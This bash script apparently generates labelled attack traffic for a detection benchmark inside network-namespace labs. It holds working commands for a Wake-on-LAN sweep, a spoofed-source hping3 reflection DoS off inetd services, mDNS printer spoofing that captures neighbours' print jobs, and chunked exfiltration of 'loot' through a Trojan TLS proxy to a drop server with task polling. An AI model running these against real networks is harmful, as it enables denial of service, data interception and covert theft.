#!/usr/bin/env bash
# A TWENTY-THIRD fresh attack set ("f23-*"): the device turned against its LAN by the small broadcast and multicast
# services every office LAN carries (Wake-on-LAN, mDNS service announcements, inetd's internal UDP services), and a
# Trojan-protocol proxy out of it. Made with real packaged tools between network namespaces (no helper program).
#   f23-wol-wake-sweep-lan     Wake-on-LAN magic packets (wakeonlan, udp/9 to the LAN's broadcast address and udp/7
#                              to each neighbour) for the neighbours' MACs and a guessed range of 60 MACs of their
#                              vendor prefix, 3 rounds 15-20 s apart (waking sleeping PCs and NVRs to attack them)
#   f23-inetd-reflect-lan      reflection off the neighbours' inetd internal UDP services (openbsd-inetd's chargen
#                              udp/19, daytime udp/13, time udp/37, echo udp/7): requests spoofed from the victim's
#                              address (hping3 -a), so 4 neighbours answer the victim (a LAN DoS by reflection)
#   f23-mdns-fake-printer-lan  mDNS service spoofing: the device's avahi-daemon (static service files, no D-Bus)
#                              announces itself as an office printer (_ipp._tcp, _pdl-datastream._tcp, _printer._tcp,
#                              _http._tcp) under a printer's host name; the neighbours ask for printers by mDNS (dig)
#                              and two of them send their print jobs to it (udp/5353, then tcp/9100 to the device)
#   f23-trojan-proxy-exfil     a Trojan-protocol proxy (trojan 1.16, TLS on tcp/443 to an internet trojan server):
#                              the device's loot (5 chunks, a config and a key) PUT through it to a drop server and a
#                              task fetched every 10-16 s; on the device's link only TLS to the trojan server
# Link-layer ideas left out (see bench/behavior/README.md, f23): LLDP spoofing (lldpd), a spanning-tree root claim,
# ATA-over-Ethernet (vblade / aoetools, ethertype 0x88A2), Wake-on-LAN by etherwake (ethertype 0x0842): the injector
# (inject.ts) keeps only `ip or arp` frames of LAN attacks, so none of their frames would reach a built capture.
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f23-*, veths f23p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.125.x). Each id's servers are started before its capture and stopped after. Every tool runs under
# `timeout`, every loop is bounded; namespaces are removed on exit. The device is always the lab's attacker namespace
# (role attacker).
#
# Tools (Debian): wakeonlan hping3 openbsd-inetd avahi-daemon bind9-dnsutils ncat trojan nginx curl iproute2 tcpdump
#   wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh23/gen-fresh23.sh [--out DIR (default /work/behavior-bench-fresh23)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh23
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f23 GEN=gen-fresh23
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
victim_arp_names_lan
# multicast (mDNS) from hosts without a default route
for n in att vic d31 d32 d33 d34; do ns "$n" ip route add 224.0.0.0/4 dev eth0; done
sleep 1

# ---------- "internet" hosts ----------
# .125.2 the trojan server, .125.3 the drop server it reaches (never seen on the device's link)
internet_hosts 10.128.125.2 10.128.125.3
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 200000 /dev/urandom | base64 > "$W/loot/cam-config.tar.b64"

# ---------- 1. Wake-on-LAN magic packets to the LAN ----------
if want f23-wol-wake-sweep-lan; then
  cat > "$W/wol.sh" <<'EOS'
# the device: 3 rounds, 15-20 s apart: magic packets for the 5 known neighbours (broadcast udp/9 and directed udp/7)
# and for a guessed range of 60 MACs of their prefix (broadcast udp/9), 0.2 s apart
for r in 1 2 3; do
  for h in 20 31 32 33 34; do
    timeout 5 wakeonlan -i 10.66.0.255 -p 9 "02:66:00:00:00:$h"
    timeout 5 wakeonlan -i "10.66.0.$h" -p 7 "02:66:00:00:00:$h"
    sleep 0.3
  done
  for i in $(seq 64 123); do
    timeout 5 wakeonlan -i 10.66.0.255 -p 9 "$(printf '02:66:00:00:01:%02x' "$i")"
    sleep 0.2
  done
  [ "$r" = 3 ] || sleep $((15 + RANDOM % 6))
done
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f23-wol-wake-sweep-lan recon wakeonlan-magic-broadcast \
    attacker lan false 115 bash "$W/wol.sh"
fi

# ---------- 2. reflection off the neighbours' inetd internal UDP services ----------
if want f23-inetd-reflect-lan; then
  printf '%s\n' "chargen dgram udp wait root internal" "daytime dgram udp wait root internal" \
    "time dgram udp wait root internal" "echo dgram udp wait root internal" | tr ' ' '\t' > "$W/inetd-lan.conf"
  IP_PIDS=()
  for d in 31 32 33 34; do
    srv "d$d" 130 /usr/sbin/inetd -i "$W/inetd-lan.conf"
    IP_PIDS+=("$BG")
  done
  sleep 2
  cat > "$W/reflect.sh" <<'EOS'
# the device: a probe of each service on each neighbour from its own address, then requests spoofed from the
# victim's address: chargen 5 a second per neighbour for 60 s, daytime / time / echo one every 0.9 s each
# (hping3 takes no interval of 1 s or more in microseconds)
for d in 31 32 33 34; do
  for p in 19 13 37 7; do timeout 3 hping3 -q -2 -p $p -d 1 -c 1 10.66.0.$d >/dev/null 2>&1 || true; done
done
sleep 3
P=()
for d in 31 32 33 34; do
  timeout 70 hping3 -q -2 -a 10.66.0.20 -s $((30000 + d * 211)) -k -p 19 -d 1 -c 300 -i u200000 10.66.0.$d \
    >/dev/null 2>&1 & P+=($!)
  for p in 13 37 7; do
    timeout 70 hping3 -q -2 -a 10.66.0.20 -s $((40000 + d * 97 + p)) -k -p $p -d 64 -c 60 -i u900000 10.66.0.$d \
      >/dev/null 2>&1 & P+=($!)
  done
  sleep 0.4
done
for p in "${P[@]}"; do wait "$p" || true; done
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f23-inetd-reflect-lan dos hping3-spoofed+inetd-internal \
    attacker lan false 100 bash "$W/reflect.sh"
  for p in "${IP_PIDS[@]}"; do stopbg "$p"; done
  for d in 31 32 33 34; do kill_in "d$d" inetd; done
fi

# ---------- 3. mDNS service spoofing: the device announces itself as the office printer ----------
if want f23-mdns-fake-printer-lan; then
  M="$W/mdns"; rm -rf "$M"; mkdir -p "$M/services" "$M/run" "$M/jobs"
  cat > "$M/avahi-daemon.conf" <<'EOF'
[server]
host-name=HP-LaserJet-M428-3F
domain-name=local
use-ipv4=yes
use-ipv6=no
allow-interfaces=eth0
enable-dbus=no
ratelimit-interval-usec=1000000
ratelimit-burst=1000
[wide-area]
enable-wide-area=no
[publish]
publish-addresses=yes
publish-hinfo=no
publish-workstation=no
publish-domain=no
[reflector]
enable-reflector=no
[rlimits]
EOF
  svc() { # FILE NAME TYPE PORT TXT...
    local f="$1" n="$2" t="$3" p="$4"; shift 4
    {
      printf '<?xml version="1.0" standalone="no"?>\n<service-group>\n  <name>%s</name>\n  <service>\n' "$n"
      printf '    <type>%s</type>\n    <port>%s</port>\n' "$t" "$p"
      for x in "$@"; do printf '    <txt-record>%s</txt-record>\n' "$x"; done
      printf '  </service>\n</service-group>\n'
    } > "$M/services/$f.service"
  }
  svc ipp "HP LaserJet M428 (3rd floor)" _ipp._tcp 631 "txtvers=1" "rp=ipp/print" "ty=HP LaserJet Pro M428fdw" \
    "pdl=application/pdf,image/urf,application/postscript" "Color=F" "Duplex=T" \
    "adminurl=http://HP-LaserJet-M428-3F.local/"
  svc pdl "HP LaserJet M428 (3rd floor)" _pdl-datastream._tcp 9100 "txtvers=1" "ty=HP LaserJet Pro M428fdw"
  svc lpd "HP LaserJet M428 (3rd floor)" _printer._tcp 515 "txtvers=1" "rp=auto" "ty=HP LaserJet Pro M428fdw"
  svc web "HP LaserJet M428 (3rd floor) web" _http._tcp 80 "path=/"
  # the device's fake printer takes the jobs sent to it (tcp/9100, raw printing), one file per connection
  ip netns exec "$LAB-att" timeout 130 bash -c "for i in \$(seq 1 8); do
    timeout 60 ncat -l 10.66.0.10 9100 > \"$M/jobs/job\$i.pcl\"; done" \
    >>"$W/bg-att.log" 2>&1 &
  JB_PID=$!; PIDS+=("$JB_PID")
  # the neighbours: printer discovery by mDNS every 8-14 s (dig to 224.0.0.251:5353), and two of them print to the
  # printer they found (the address of its host name), 2 jobs each
  for d in 31 32 33 34; do
    ip netns exec "$LAB-d$d" timeout 105 bash -c "
      sleep \$((2 + $d % 5))
      for i in \$(seq 1 8); do
        timeout 4 dig +short +time=2 +tries=1 -p 5353 @224.0.0.251 _pdl-datastream._tcp.local PTR >> '$M/q$d.out' 2>&1
        timeout 4 dig +short +time=2 +tries=1 -p 5353 @224.0.0.251 _ipp._tcp.local PTR >> '$M/q$d.out' 2>&1
        sleep \$((8 + RANDOM % 7))
      done" >>"$W/bg-d$d.log" 2>&1 &
    PIDS+=($!)
  done
  for d in 32 34; do
    ip netns exec "$LAB-d$d" timeout 105 bash -c "
      sleep \$((20 + $d))
      for j in 1 2; do
        a=\$(timeout 4 dig +short +time=2 +tries=1 -p 5353 @224.0.0.251 HP-LaserJet-M428-3F.local A | \
          grep -E '^[0-9.]+\$' | head -1)
        [ -n \"\$a\" ] || a=10.66.0.10
        { printf '\\033%%-12345X@PJL JOB NAME=payroll-$d\\n'; head -c 60000 /dev/urandom | base64; } | \
          timeout 10 ncat --send-only \"\$a\" 9100
        sleep \$((20 + RANDOM % 10))
      done" >>"$W/bg-d$d.log" 2>&1 &
    PIDS+=($!)
  done
  cat > "$W/mdns.sh" <<'EOS'
# the device: its avahi-daemon (in a private mount namespace: its service files and pid folder bound over the
# machine's) probes its name, announces the printer's services and answers the neighbours for 90 s
M="$W/mdns"
timeout 92 unshare -m sh -c "mount --bind '$M/services' /etc/avahi/services && mkdir -p /run/avahi-daemon && \
  mount --bind '$M/run' /run/avahi-daemon && exec avahi-daemon -f '$M/avahi-daemon.conf' --no-drop-root --no-chroot \
  --no-rlimits --no-proc-title" > "$M/avahi.log" 2>&1 || true
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f23-mdns-fake-printer-lan lateral avahi-daemon-fake-printer+dig \
    attacker lan false 100 bash "$W/mdns.sh"
  stopbg "$JB_PID"; kill_in att avahi-daemon; kill_in att ncat
  echo "mdns: answers $(cat "$M"/q*.out 2>/dev/null | grep -c 'HP'), jobs $(find "$M/jobs" -type f -size +1k | wc -l)" >&2
fi

# ---------- 4. a Trojan-protocol proxy out of the device carrying its loot ----------
if want f23-trojan-proxy-exfil; then
  T="$W/trojan"; rm -rf "$T"; mkdir -p "$T"
  lab_tls_cert cdn-edge.example
  cat > "$T/server.json" <<EOF
{ "run_type": "server", "local_addr": "10.128.125.2", "local_port": 443,
  "remote_addr": "10.128.125.3", "remote_port": 80, "password": ["Tr0j-7f3a-ops"], "log_level": 1,
  "ssl": { "cert": "$W/tls.crt", "key": "$W/tls.key", "alpn": ["http/1.1"], "reuse_session": true },
  "tcp": { "no_delay": true, "keep_alive": true } }
EOF
  cat > "$T/client.json" <<EOF
{ "run_type": "client", "local_addr": "127.0.0.1", "local_port": 1080,
  "remote_addr": "10.128.125.2", "remote_port": 443, "password": ["Tr0j-7f3a-ops"], "log_level": 1,
  "ssl": { "verify": false, "verify_hostname": false, "sni": "cdn-edge.example", "alpn": ["h2", "http/1.1"],
           "reuse_session": true },
  "tcp": { "no_delay": true, "keep_alive": true } }
EOF
  # the drop server behind the trojan server: nginx taking PUTs into drop/, a task file in c/
  NGINX_SERVER_NAME=drop.example
  nginx_conf drop "    listen 10.128.125.3:80;" <<'EOF'
    location /drop/ { dav_methods PUT; create_full_put_path on; }
EOF
  mkdir -p "$W/nginx-drop/www/c" "$W/nginx-drop/www/drop"
  echo "upload /var/lib/cam/config" > "$W/nginx-drop/www/c/cam7f3a"
  srv vic 150 nginx -c "$W/nginx-drop/nginx.conf" -g "daemon off;"
  NG_PID=$BG
  srv vic 150 trojan -c "$T/server.json"
  TS_PID=$BG
  wait_tcp vic 10.128.125.2 443
  cat > "$W/trojan.sh" <<'EOS'
# the device: its trojan client (SOCKS5 on 127.0.0.1:1080) up, then a task fetched every 10-16 s and the loot PUT in
# 5 chunks through it to the drop server (each request a new TLS connection to the trojan server)
T="$W/trojan"
timeout 110 trojan -c "$T/client.json" > "$T/client.log" 2>&1 &
TP=$!
sleep 2
S="curl -s --max-time 15 --socks5-hostname 127.0.0.1:1080"
split -n 5 -d "$W/loot/cam-config.tar.b64" "$T/chunk."
k=0
for i in $(seq 1 9); do
  [ $SECONDS -lt 95 ] || break
  $S http://10.128.125.3/c/cam7f3a -o "$T/task.$i" || true
  if [ $k -lt 5 ]; then
    $S -T "$T/chunk.0$k" "http://10.128.125.3/drop/cam7f3a/part$k" -o /dev/null -w '%{http_code}\n' \
      >> "$T/put.out" || true
    k=$((k + 1))
  fi
  sleep $((10 + RANDOM % 7))
done
kill $TP 2>/dev/null; wait $TP 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.125.2 cap f23-trojan-proxy-exfil exfil trojan-client+trojan-server attacker public false 115 \
    bash "$W/trojan.sh"
  stopbg "$TS_PID"; stopbg "$NG_PID"; kill_in vic trojan; kill_in vic nginx
  echo "trojan: puts $(tr '\n' ' ' < "$T/put.out" 2>/dev/null)," \
    "dropped $(ls "$W/nginx-drop/www/drop/cam7f3a" 2>/dev/null | wc -l)" >&2
fi

lab_index
